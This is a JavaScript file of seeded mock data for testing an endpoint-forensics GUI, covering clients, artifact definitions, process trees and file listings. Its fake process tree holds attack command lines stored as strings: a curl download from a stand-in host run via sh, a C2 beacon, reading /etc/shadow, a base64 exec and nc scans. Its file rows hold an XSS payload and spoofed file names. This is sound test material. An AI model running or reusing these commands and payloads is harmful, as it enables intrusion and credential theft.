// Made-up but plausible data for development and for the GUI's own tests. Never part of the build.

import { answerOf } from './contract.mjs';

/** A small generator with a fixed seed: the same data at every start. */
export function random(seed) {
  let state = seed >>> 0;
  const next = () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state / 2 ** 32;
  };
  return { next, int: (max) => Math.floor(next() * max), pick: (list) => list[Math.floor(next() * list.length)] };
}

const hex = (rng, length) => Array.from({ length }, () => '0123456789abcdef'[rng.int(16)]).join('');
export const NOW = Date.now();
export const iso = (ms) => new Date(ms).toISOString();

const SITES = ['ber', 'zrh', 'muc', 'vie'];
const ROLES = ['web', 'db', 'build', 'mail', 'dc', 'ws', 'lt', 'fs', 'jump', 'ci'];

export function makeClients(count) {
  const rng = random(7);
  return Array.from({ length: count }, (_, index) => {
    const os = index === 0 ? 'linux' : rng.pick(['linux', 'linux', 'windows', 'windows', 'windows', 'darwin']);
    const hostname = index === 0 ? 'web-ber-001' : `${rng.pick(ROLES)}-${rng.pick(SITES)}-${String(index).padStart(3, '0')}`;
    const online = index === 0 || rng.next() < 0.62;
    const ip = `10.${rng.int(40)}.${rng.int(255)}.${1 + rng.int(254)}`;
    return {
      ...answerOf('GET clients/:id'),
      client_id: `C.${hex(rng, 16)}`,
      hostname,
      fqdn: `${hostname}.corp.example`,
      os,
      os_release: os === 'linux' ? rng.pick(['Debian GNU/Linux 13.1', 'Ubuntu 24.04.3 LTS', 'Rocky Linux 9.6']) : os === 'windows' ? rng.pick(['Windows 11 Enterprise 24H2', 'Windows Server 2022 Standard', 'Windows 10 Pro 22H2']) : 'macOS 15.6',
      architecture: rng.pick(['amd64', 'amd64', 'arm64']),
      agent_name: 'peregrine',
      agent_version: rng.pick(['0.1.0', '0.1.0', '0.0.9']),
      addresses: [ip, `fe80::${hex(rng, 4)}:${hex(rng, 4)}`],
      last_ip: `${ip}:${40000 + rng.int(20000)}`,
      mac_addresses: [`02:42:${hex(rng, 2)}:${hex(rng, 2)}:${hex(rng, 2)}:${hex(rng, 2)}`],
      labels: index === 0 ? ['production', 'dmz'] : rng.next() < 0.35 ? [rng.pick(['production', 'vip', 'lab', 'quarantine', 'branch'])] : [],
      online,
      first_seen: iso(NOW - 86400e3 * (1 + rng.int(300))),
      last_seen: online ? iso(NOW - rng.int(20e3)) : iso(NOW - 3600e3 * (1 + rng.int(900))),
      last_interrogate_flow_id: 'F.BN2HP3OMINFO',
      in_flight_flows: [],
      metadata: {},
    };
  });
}

const real = answerOf('GET artifacts/:artifact');
const param = (name, type, value, description, more = {}) => ({ ...real.parameters[0], name, type, default: value, description, ...more });
const artifact = (name, description, parameters = [], more = {}) => ({
  ...real,
  name,
  description,
  author: 'Peregrine project',
  built_in: true,
  parameters,
  sources: [{ name: '', description: '' }],
  column_types: [],
  ...more,
});

export const ARTIFACTS = [
  artifact(
    'Generic.System.Pstree',
    'Lists processes with the call chain of each.\n\nThe chain comes from the **process tracker**, so parents that have exited are still there. Works on Linux, Windows and macOS.\n\n- `ProcessRegex` narrows by name.\n- `CallChainSep` separates the links.\n\n```vql\nSELECT * FROM Artifact.Generic.System.Pstree(ProcessRegex="bash")\n```',
    [param('ProcessRegex', 'regex', '.', 'Only processes whose name matches.'), param('CallChainSep', '', ' -> ', 'Between the links of a chain.'), param('IncludePstree', 'bool', 'N', 'Add the whole subtree of each process as a column.')],
    { column_types: [{ name: 'StartTime', type: 'timestamp', description: '' }, { name: 'EndTime', type: 'timestamp', description: '' }], references: ['https://docs.peregrine.example/process-tracker'] },
  ),
  artifact('Generic.Client.Info', 'Collects basic facts about the machine: platform, addresses, users.\n\nRuns by itself when a machine first connects.', [], { sources: [{ name: 'BasicInformation', description: '' }, { name: 'Users', description: 'Local accounts' }, { name: 'Interfaces', description: '' }] }),
  artifact(
    'Linux.Search.FileFinder',
    'Finds files by glob, and filters by time, size, content and YARA.',
    [
      param('SearchFilesGlob', '', '/home/**', 'Use a glob to define the files that will be searched.'),
      param('SearchFilesGlobTable', 'csv', 'Glob\n/home/someuser/**\n', 'Alternatively specify multiple globs in a table.'),
      param('YARARule', 'yara', '', 'A YARA rule to search for matching files.'),
      param('UploadFile', 'bool', 'N', 'Also upload the file.'),
      param('CalculateHash', 'bool', 'N', 'Also compute hashes.'),
      param('MoreRecentThan', 'timestamp', '', 'Only files modified since.'),
      param('MaxSize', 'int', '104857600', 'Skip files larger than this, in bytes.'),
      param('Accessor', 'choices', 'file', 'How to read the file system.', { choices: ['file', 'ext4', 'raw_file'] }),
      param('Columns', 'multichoice', '["OSPath","Size"]', 'Columns to keep.', { choices: ['OSPath', 'Size', 'Mtime', 'Mode', 'Hash'] }),
    ],
    { resources: { timeout: 1800, max_rows: 100000 } },
  ),
  artifact('Linux.Network.Netstat', 'Lists sockets with the processes that hold them.', [param('StateRegex', 'regex', 'Listening|Established', 'Only sockets in a matching state, such as `Listening`.')], { precondition: "SELECT OS FROM info() WHERE OS = 'linux'" }),
  artifact('Linux.Sys.Crontab', 'Shows the scheduled jobs of all users.', [param('cronTabGlob', '', '/etc/crontab,/etc/cron.d/**,/var/spool/cron/crontabs/*', 'Where the tables are.')], { precondition: "SELECT OS FROM info() WHERE OS = 'linux'", sources: [{ name: 'CronTabs', description: '' }, { name: 'CronScripts', description: '' }] }),
  artifact('Linux.Sys.Users', 'Lists local accounts from /etc/passwd.', [], { precondition: "SELECT OS FROM info() WHERE OS = 'linux'" }),
  artifact('Linux.Forensics.Journal', 'Reads the systemd journal.', [param('JournalGlob', '', '/{run,var}/log/journal/*/*.journal', 'Journal files.'), param('DateAfter', 'timestamp', '', 'Only events after this time.')]),
  artifact('Generic.Network.Share', 'Lists the files of a network share.', [param('Share', '', '', 'Its address.'), param('Password', 'redacted', '', 'What opens it.')], { basic: true }),
  artifact('Generic.Client.VQL', 'Runs any VQL on the machine.', [param('Command', 'vql', 'SELECT * FROM info()', 'The query to run.')]),
  artifact('Windows.Forensics.Prefetch', 'Parses prefetch files.', [param('prefetchGlobs', '', 'C:\\Windows\\Prefetch\\*.pf', 'Where they are.')], { precondition: "SELECT OS FROM info() WHERE OS = 'windows'" }),
  artifact('Windows.System.Services', 'Lists services.', [], { precondition: "SELECT OS FROM info() WHERE OS = 'windows'" }),
  artifact('Custom.Triage.Suspicious', 'Our own triage: temp-directory binaries with network sockets.', [param('Threshold', 'float', '0.7', 'Score above which a process is reported.'), param('Indicators', 'json', '{"ips": []}', 'Indicators to look for.')], { built_in: false, author: 'jana' }),
  artifact('Linux.Events.ProcessExecutions', 'Records every program start.', [param('excludeRegex', 'regex', '^/usr/lib/', 'Ignore matching executables.')], { type: 'client_event' }),
  artifact('Linux.Events.DNS', 'Records name lookups.', [], { type: 'client_event' }),
  artifact('Generic.Client.Stats', 'Records what the agent itself uses.', [param('Frequency', 'int', '10', 'Seconds between samples.')], { type: 'client_event' }),
  artifact('Server.Utils.DeleteFlow', 'Deletes collections.', [param('FlowId', '', '', 'Which one.')], { type: 'server' }),
];
for (const item of ARTIFACTS) {
  item.raw = `name: ${item.name}\ndescription: |\n${(item.description ?? '').split('\n').map((line) => `  ${line}`).join('\n')}\n\ntype: ${item.type.toUpperCase()}\n\nparameters:\n${item.parameters.map((each) => `  - name: ${each.name}\n    type: ${each.type || 'string'}\n    default: ${JSON.stringify(each.default)}\n    description: ${each.description}`).join('\n')}\n\nsources:\n${item.sources.map((each) => `  - ${each.name ? `name: ${each.name}\n    ` : ''}query: |\n      SELECT Pid, Name, CommandLine\n      FROM pslist()\n      WHERE Name =~ ProcessRegex  -- by name`).join('\n')}\n`;
}

const TOOLS = [
  ['bash', '/usr/bin/bash', '-bash'],
  ['python3', '/usr/bin/python3.13', 'python3 -m http.server 8000'],
  ['curl', '/usr/bin/curl', 'curl -fsSL http://updates.cdn-static.example/a.sh'],
  ['sh', '/usr/bin/dash', "sh -c 'id; uname -a; cat /etc/passwd'"],
  ['git', '/usr/bin/git', 'git fetch --all --prune'],
  ['nginx', '/usr/sbin/nginx', 'nginx: worker process'],
  ['postgres', '/usr/lib/postgresql/17/bin/postgres', 'postgres: checkpointer'],
  ['make', '/usr/bin/make', 'make -j8 all'],
  ['cc1', '/usr/libexec/gcc/x86_64-linux-gnu/14/cc1', 'cc1 -quiet -O2 main.c'],
  ['sleep', '/usr/bin/sleep', 'sleep 30'],
];

/** Processes of one machine, from pid 1 down; some parents have many children. */
export function makeProcesses(count) {
  const rng = random(11);
  const boot = NOW - 6 * 86400e3;
  const list = [];
  const add = (parent, name, exe, command_line, username, start, exited, exit_code = 0) => {
    const pid = list.length === 0 ? 1 : 300 + list.length * 3 + rng.int(3);
    const node = { id: `${pid}-${Math.round(start / 1000)}`, parent_id: parent?.id ?? null, pid, ppid: parent?.pid ?? 0, name, exe, command_line, username, start_time: iso(start), end_time: exited ? iso(Math.min(NOW, start + 50 + rng.int(600e3))) : null, exit_code: exited ? exit_code : null, exited, start, chain: [...(parent?.chain ?? []), name] };
    list.push(node);
    return node;
  };
  const init = add(null, 'systemd', '/usr/lib/systemd/systemd', '/sbin/init', 'root', boot, false);
  const sshd = add(init, 'sshd', '/usr/sbin/sshd', 'sshd: /usr/sbin/sshd -D [listener]', 'root', boot + 4e3, false);
  const nginx = add(init, 'nginx', '/usr/sbin/nginx', 'nginx: master process /usr/sbin/nginx', 'root', boot + 5e3, false);
  const cron = add(init, 'cron', '/usr/sbin/cron', '/usr/sbin/cron -f', 'root', boot + 5e3, false);
  const runner = add(init, 'ci-runner', '/opt/ci/ci-runner', '/opt/ci/ci-runner --concurrency 8', 'ci', boot + 9e3, false);
  for (const name of ['systemd-journald', 'systemd-udevd', 'dbus-daemon', 'rsyslogd', 'chronyd', 'peregrine', 'polkitd', 'agetty']) add(init, name, `/usr/lib/${name}`, `/usr/lib/${name}`, 'root', boot + 2e3 + rng.int(9e3), false);
  const session = add(sshd, 'sshd', '/usr/sbin/sshd', 'sshd: deploy [priv]', 'root', NOW - 7200e3, false);
  const user = add(session, 'sshd', '/usr/sbin/sshd', 'sshd: deploy@pts/0', 'deploy', NOW - 7199.2e3, false);
  const shell = add(user, 'bash', '/usr/bin/bash', '-bash', 'deploy', NOW - 7199e3, false);
  const fetch = add(shell, 'curl', '/usr/bin/curl', 'curl -fsSL http://updates.cdn-static.example/a.sh -o /tmp/.x', 'deploy', NOW - 6900e3, true);
  const stage = add(shell, 'sh', '/usr/bin/dash', 'sh /tmp/.x', 'deploy', NOW - 6890e3, true, 0);
  const beacon = add(stage, 'kworker/u8', '/tmp/.cache/kworker\u202e', '/tmp/.cache/kworker --c2 http://198.51.100.23:8443/poll\n--key \u0000\u001b[31mred', 'deploy', NOW - 6889.4e3, false);
  for (const [name, line, code] of [['id', 'id', 0], ['uname', 'uname -a', 0], ['cat', 'cat /etc/shadow', 1], ['find', 'find / -perm -4000 -type f', 1], ['ss', 'ss -tulpn', 0]]) add(beacon, name, `/usr/bin/${name}`, line, 'deploy', NOW - 6800e3 + rng.int(600e3), true, code);
  const scan = add(beacon, 'python3', '/usr/bin/python3.13', 'python3 -c "import socket,base64;exec(base64.b64decode(...))"', 'deploy', NOW - 6000e3, false);
  for (let index = 0; index < 42; index += 1) add(scan, 'nc', '/usr/bin/nc', `nc -zw1 10.4.${index}.10 445`, 'deploy', NOW - 5900e3 + index * 2100, true, index % 7 ? 1 : 0);
  void fetch;
  for (let index = 0; index < 8; index += 1) add(nginx, 'nginx', '/usr/sbin/nginx', 'nginx: worker process', 'www-data', boot + 5.2e3, false);
  const parents = [cron, runner, shell];
  while (list.length < count) {
    const parent = rng.next() < 0.5 ? rng.pick(parents) : rng.pick(list.slice(-200));
    const [name, exe, line] = rng.pick(TOOLS);
    const start = Math.min(NOW - 1e3, Math.max(parent.start, boot) + rng.int(2 * 3600e3));
    const node = add(parent.chain.length > 14 ? runner : parent, name, exe, line, parent.username, start, rng.next() < 0.9, rng.next() < 0.1 ? 1 : 0);
    if (rng.next() < 0.15) parents.push(node);
    if (parents.length > 40) parents.splice(3, 1);
  }
  return list;
}

export function pstreeRows(processes) {
  const columns = [{ name: 'Pid', type: 'number' }, { name: 'Ppid', type: 'number' }, { name: 'Name', type: 'string' }, { name: 'Username', type: 'string' }, { name: 'Exe', type: 'string' }, { name: 'CommandLine', type: 'string' }, { name: 'StartTime', type: 'timestamp' }, { name: 'EndTime', type: 'timestamp' }, { name: 'ExitCode', type: 'number' }, { name: 'CallChain', type: 'string' }];
  return { columns, rows: processes.map((p) => [p.pid, p.ppid, p.name, p.username, p.exe, p.command_line, p.start_time, p.end_time, p.exit_code, p.chain.join(' -> ')]) };
}

export function fileRows(count) {
  const rng = random(23);
  const columns = [{ name: 'OSPath' }, { name: 'Size', type: 'number' }, { name: 'Mtime', type: 'timestamp' }, { name: 'Btime', type: 'timestamp' }, { name: 'Mode' }, { name: 'Owner' }, { name: 'Sha256' }, { name: 'IsDir', type: 'bool' }, { name: 'SourceAddress' }, { name: 'Url' }, { name: 'Data', type: 'json' }, { name: '_Source' }];
  const folders = ['/home/deploy/projects/site', '/home/jana/Downloads', '/tmp/.cache', '/var/www/html/uploads', '/opt/app/releases/2026-11-01'];
  const rows = Array.from({ length: count }, (_, index) => {
    const name = `${rng.pick(['report', 'invoice', 'dump', 'a', 'index', 'core', 'notes'])}-${index}.${rng.pick(['pdf', 'sh', 'php', 'log', 'tar.gz', 'js'])}`;
    return [
      `${rng.pick(folders)}/${index === 3 ? 'gpj\u202eexe.\u0007img' : name}`,
      rng.int(80e6),
      iso(NOW - rng.int(90 * 86400e3)),
      index % 2 ? '1970-01-01T00:00:00Z' : iso(NOW - 100 * 86400e3 + index),
      rng.pick(['-rw-r--r--', '-rwxr-xr-x', 'drwxr-x---']),
      rng.pick(['deploy', 'jana', 'www-data', 'root', null]),
      rng.next() < 0.2 ? null : hex(rng, 64),
      rng.next() < 0.1,
      `10.4.${rng.int(20)}.${rng.int(250)}`,
      rng.next() < 0.3 ? `http://cdn${rng.int(9)}.bad-host.example/p/${hex(rng, 6)}?id=${index}` : null,
      index === 5 ? { note: '<img src=x onerror=alert(1)>', deep: { list: Array.from({ length: 300 }, (_, at) => ({ at, value: hex(rng, 8) })), text: 'x'.repeat(5000) } } : { inode: rng.int(9e6), xattr: rng.next() < 0.2 ? { 'user.origin': 'browser' } : {} },
      'Linux.Search.FileFinder',
    ];
  });
  return { columns, rows };
}
